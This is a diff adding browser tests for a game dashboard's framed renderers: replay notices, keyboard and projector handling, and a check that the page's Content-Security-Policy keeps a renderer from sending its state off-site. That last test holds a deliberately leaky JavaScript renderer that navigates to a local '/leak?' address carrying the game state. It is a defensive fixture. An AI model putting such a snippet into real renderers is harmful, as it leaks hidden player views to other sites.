@@ -306,6 +306,155 @@ def test_finished_game_replays_move_by_move(server: ServerThread, page: Any) -> 
     expect(marks).to_have_count(3)
 
 
+# ---------------------------------------------------------------- a game's own renderer, framed
+
+
+def history_id(server: ServerThread, game: str, session: str) -> int:
+    """The id of the finished game of ``game``/``session`` in the history."""
+    def find() -> int | None:
+        games = play.get_json(server, f"/api/history?game={game}")["games"]
+        return next((g["id"] for g in games if g["session"] == session), None)
+    return int(play.wait_until(find, f"{game}/{session} in the history"))
+
+
+def coin_replay(server: ServerThread, page: Any, session: str, coin: str, step: int) -> Any:
+    """Play three calls of CoinToss (the coin always shows ``coin``), open the replay at
+    ``step``; its renderer's frame."""
+    (client,) = play.seat(server, "CoinToss", session, ["ann"])
+    for side in ("heads", "tails", "heads"):
+        client.move(call=side, force=coin)
+    page.goto(url(server, f"/replay/{history_id(server, 'CoinToss', session)}?step={step}"))
+    return page.frame_locator("#board iframe.renderer-frame")
+
+
+def test_a_folder_games_replay_shows_its_end_and_says_why_the_moves_between_have_none(
+        server: ServerThread, page: Any) -> None:
+    """CoinToss (from a games folder, so in a worker process) replayed as "No state
+    recorded for this step." after its start, even at its end: the server does not play a
+    worker's game again to rebuild the states, and the page did not say so. Now the last
+    step shows the final state, and the others say why they have none."""
+    frame = coin_replay(server, page, "coin-replay", "tails", 3)
+    expect(page.locator("#position")).to_contain_text("Move 3 of 3")
+    expect(frame.locator(".coin")).to_have_text("The coin shows tails")
+    expect(frame.locator("li")).to_have_text("ann: 1 points")
+    expect(page.locator(".status")).to_have_text("Game over: ann wins")
+    page.locator('#moves button[data-step="1"]').click()
+    expect(page.locator("#board .notice")).to_have_text(
+        "No state recorded for this step: the game CoinToss runs in a worker process: its "
+        "moves are shown, the states after each move are not.")
+
+
+def test_the_replays_keys_work_when_pressed_in_a_renderers_frame(
+        server: ServerThread, page: Any) -> None:
+    """A key pressed after a click in an author's frame stays in the frame's document:
+    the replay's arrow keys did nothing there. Now the frame passes them on."""
+    frame = coin_replay(server, page, "coin-keys", "heads", 0)
+    expect(frame.locator(".coin")).to_have_text("Not tossed yet")
+    frame.locator(".coin").click()  # the keys go to the frame now
+    page.keyboard.press("End")
+    expect(page.locator("#position")).to_contain_text("Move 3 of 3")
+    expect(frame.locator("li")).to_have_text("ann: 2 points")
+    frame.locator(".coin").click()
+    page.keyboard.press("ArrowLeft")
+    expect(page.locator("#position")).to_contain_text("Move 2 of 3")
+
+
+def test_projector_mode_reaches_into_a_renderers_frame_and_back(
+        server: ServerThread, page: Any) -> None:
+    """Projector mode (key P) enlarged the page but not an author's frame, and P pressed
+    in the frame did nothing. Now the frame follows the page, and passes P on."""
+    play.seat(server, "CoinToss", "coin-look", ["ann"])
+    page.goto(url(server, "/session/CoinToss/coin-look"))
+    frame = page.frame_locator("#board iframe.renderer-frame")
+    expect(frame.locator(".coin")).to_have_text("Not tossed yet")
+    page.locator("h1").click()  # keys go to the page, not the address bar
+    page.keyboard.press("p")
+    expect(page.locator("html")).to_have_class("projector")
+    expect(frame.locator("html")).to_have_class("projector")
+    assert frame.locator("html").evaluate("e => getComputedStyle(e).fontSize") == "26px"
+    frame.locator(".coin").click()
+    page.keyboard.press("p")  # in the frame: the page leaves projector mode
+    expect(page.locator("html")).not_to_have_class("projector")
+    expect(frame.locator("html")).not_to_have_class("projector")
+
+
+def test_arrow_keys_move_between_the_move_targets_of_a_renderers_frame(
+        server: ServerThread, browser: Any) -> None:
+    """On a player's page the arrow keys move between the bundled boards' targets; in an
+    author's frame they did nothing. Now the frame moves its focus the same way."""
+    from tests.web.test_play_browser import Player
+
+    ann = Player(browser, f"http://127.0.0.1:{play.dashboard_port(server)}")
+    try:
+        ann.start("CoinToss", 1, "ann")
+        assert ann.wait_turn() == "mine"
+        frame = ann.page.frame_locator("#board iframe.renderer-frame")
+        heads = frame.locator("#heads.clickable")
+        heads.focus()
+        ann.page.keyboard.press("ArrowRight")
+        expect(frame.locator("#tails")).to_be_focused()
+        ann.page.keyboard.press("ArrowLeft")
+        expect(heads).to_be_focused()
+        ann.act(heads)  # and Enter or a click still moves
+        expect(frame.locator(".coin")).not_to_have_text("Not tossed yet")
+    finally:
+        ann.close()
+
+
+LEAKY = """
+GameDashboard.register("CoinToss", function (state, ctx) {
+  const away = "http://localhost:PORT/leak?" + encodeURIComponent(JSON.stringify(state));
+  setTimeout(() => { location = away; }, 0);
+  return ctx.h("p", { id: "shown", text: JSON.stringify(state) });
+});
+"""
+
+
+def test_a_renderers_frame_cannot_take_what_it_was_shown_to_another_site(
+        browser: Any, tmp_path: Path) -> None:
+    """A renderer may navigate its own frame (a sandbox allows that): to another site,
+    with the state in the address, it would hand a hidden view on the operator's page to
+    that site. The page's Content-Security-Policy (frame-src 'self') refuses it."""
+    import http.server
+    import shutil
+    import threading
+
+    asked: list[str] = []
+
+    class Away(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    away = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Away)
+    threading.Thread(target=away.serve_forever, daemon=True).start()
+    shutil.copy(GAMES / "coin_toss.py", tmp_path)
+    (tmp_path / "CoinToss.js").write_text(LEAKY.replace("PORT", str(away.server_address[1])))
+    leaky = play.web_server(games_dirs=[str(tmp_path)], web_renderers="all")
+    context = browser.new_context()
+    try:
+        (coin,) = play.seat(leaky, "CoinToss", "coin-away", ["ann"])
+        coin.move(call="heads", force="tails")
+        page = context.new_page()
+        with page.expect_console_message(
+                lambda msg: "violates the following Content Security Policy" in msg.text,
+                timeout=10_000) as refused:
+            page.goto(url(leaky, "/session/CoinToss/coin-away"))
+        text = refused.value.text
+        assert f"Framing 'http://localhost:{away.server_address[1]}/' violates" in text
+        assert "frame-src 'self'" in text
+        assert asked == []  # checked before the request is made: none was
+    finally:
+        context.close()
+        leaky.stop()
+        away.shutdown()
+        away.server_close()
+
+
 # ---------------------------------------------------------------- access token
 
 
